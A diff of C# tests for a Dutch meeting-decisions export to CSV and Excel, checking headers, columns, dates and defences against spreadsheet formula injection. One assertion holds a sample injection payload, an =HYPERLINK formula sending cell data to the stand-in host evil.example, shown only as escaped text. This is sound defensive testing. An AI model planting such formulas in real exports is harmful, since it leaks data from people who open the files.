@@ -224,12 +224,36 @@ public sealed class MeetingTests : IAsyncLifetime
         using var response = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.csv");
         Assert.Equal(HttpStatusCode.OK, response.StatusCode);
         Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
-        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
-        Assert.Equal("volgnummer,zaak,titel,status,besluit,actie,besloten_op,besloten_door,actiepunten,doorgeschoven_naar", lines[0]);
-        Assert.Equal(2, lines.Length);
-        Assert.Contains("\"Opgelost, met \"\"handreiking\"\", kostendelersnorm\"", lines[1], StringComparison.Ordinal);
-        Assert.Contains("sbsdBesluitOpgelost", lines[1], StringComparison.Ordinal);
-        Assert.Contains("SZW: Handreiking publiceren (uiterlijk " + D(date.AddDays(28)) + ")", lines[1], StringComparison.Ordinal);
+        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
+        Assert.Equal($"besluitenlijst-sbsd-{date:dd-MM-yyyy}.csv", response.Content.Headers.ContentDisposition?.FileNameStar);
+        Assert.Contains("no-store", response.Headers.CacheControl?.ToString(), StringComparison.Ordinal);
+        var bytes = await response.Content.ReadAsByteArrayAsync();
+        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
+        var rows = Casework.Web.Tests.Export.TableExportTests.ParseCsv(bytes);
+        Assert.Equal(["Nr.", "Zaaknummer", "Soort", "Onderwerp", "Agendapunt", "Uitkomst", "Besluit", "Besloten op", "Besloten door", "Actiepunten", "Doorgeschoven naar"], rows[0]);
+        Assert.Equal(2, rows.Count);
+        var row = rows[1];
+        Assert.Equal("1", row[0]);
+        Assert.Equal("Knelpunt", row[2]);
+        Assert.Equal("Besloten", row[4]);
+        Assert.Equal("Besluit SBSD, opgelost", row[5]); // the workflow action's label, not its id
+        Assert.Equal("Opgelost, met \"handreiking\", kostendelersnorm", row[6]);
+        Assert.Equal(date.ToString("dd-MM-yyyy", CultureInfo.InvariantCulture), row[7]);
+        Assert.Equal("Strategisch Beraad Sociaal Domein", row[8]);
+        Assert.Equal("Ministerie van Sociale Zaken en Werkgelegenheid: Handreiking publiceren (uiterlijk " + date.AddDays(28).ToString("dd-MM-yyyy", CultureInfo.InvariantCulture) + ")", row[9]);
+        Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell.Contains("sbsdBesluitOpgelost", StringComparison.Ordinal));
+
+        using var excel = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.xlsx");
+        Assert.Equal(HttpStatusCode.OK, excel.StatusCode);
+        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", excel.Content.Headers.ContentType?.MediaType);
+        Assert.Equal($"besluitenlijst-sbsd-{date:dd-MM-yyyy}.xlsx", excel.Content.Headers.ContentDisposition?.FileNameStar);
+        using var workbook = new ClosedXML.Excel.XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
+        var sheet = workbook.Worksheet(1);
+        Assert.Equal("Uitkomst", sheet.Cell(1, 6).GetString());
+        Assert.Equal(1, sheet.Cell(2, 1).GetValue<int>());
+        Assert.Equal(ClosedXML.Excel.XLDataType.DateTime, sheet.Cell(2, 8).DataType);
+        Assert.Equal(date.ToDateTime(TimeOnly.MinValue), sheet.Cell(2, 8).GetDateTime());
+        Assert.Equal("Besluit SBSD, opgelost", sheet.Cell(2, 6).GetString());
     }
 
     /// <summary>
@@ -259,22 +283,29 @@ public sealed class MeetingTests : IAsyncLifetime
 
         using var response = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.csv");
         Assert.Equal(HttpStatusCode.OK, response.StatusCode);
-        var text = await response.Content.ReadAsStringAsync();
+        var bytes = await response.Content.ReadAsByteArrayAsync();
+        var text = System.Text.Encoding.UTF8.GetString(bytes);
 
         // Escaped and quoted, so a quote inside the title cannot end the cell and start a formula in the next one.
         Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Klik\"\")\"", text, StringComparison.Ordinal);
-        using var reader = new CsvHelper.CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
-        var rows = new List<string[]>();
-        while (await reader.ReadAsync())
-        {
-            rows.Add(reader.Parser.Record!);
-        }
+        var rows = Casework.Web.Tests.Export.TableExportTests.ParseCsv(bytes);
 
         Assert.Equal(3, rows.Count);
-        var byTitle = rows.Skip(1).ToDictionary(r => r[2]);
+        var byTitle = rows.Skip(1).ToDictionary(r => r[3]);
         Assert.Equal(new[] { "'" + hyperlink, "'" + dde }.Order(StringComparer.Ordinal), byTitle.Keys.Order(StringComparer.Ordinal));
-        Assert.Equal("'" + at, byTitle["'" + hyperlink][4]);
-        Assert.StartsWith("'-2+3: Handreiking publiceren", byTitle["'" + hyperlink][8], StringComparison.Ordinal);
+        Assert.Equal("'" + at, byTitle["'" + hyperlink][6]);
+        Assert.StartsWith("'-2+3: Handreiking publiceren", byTitle["'" + hyperlink][9], StringComparison.Ordinal);
         Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"cell starts a formula: {cell}"));
+
+        // The workbook: the same cells, as text that starts with the apostrophe, and no formula anywhere.
+        using var excel = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.xlsx");
+        using var workbook = new ClosedXML.Excel.XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
+        var sheet = workbook.Worksheet(1);
+        var titles = Enumerable.Range(2, 2).Select(r => sheet.Cell(r, 4).GetString()).Order(StringComparer.Ordinal).ToList();
+        Assert.Equal(new[] { "'" + hyperlink, "'" + dde }.Order(StringComparer.Ordinal), titles);
+        Assert.Contains(Enumerable.Range(2, 2), r => sheet.Cell(r, 7).GetString() == "'" + at);
+        Assert.All(sheet.CellsUsed(), cell => Assert.False(cell.HasFormula, $"{cell.Address} holds a formula"));
+        Assert.All(sheet.CellsUsed().Where(c => c.DataType == ClosedXML.Excel.XLDataType.Text), cell =>
+            Assert.False(cell.GetString().Length > 0 && "=+-@\t\r".Contains(cell.GetString()[0], StringComparison.Ordinal), $"{cell.Address} starts a formula: {cell.GetString()}"));
     }
 }
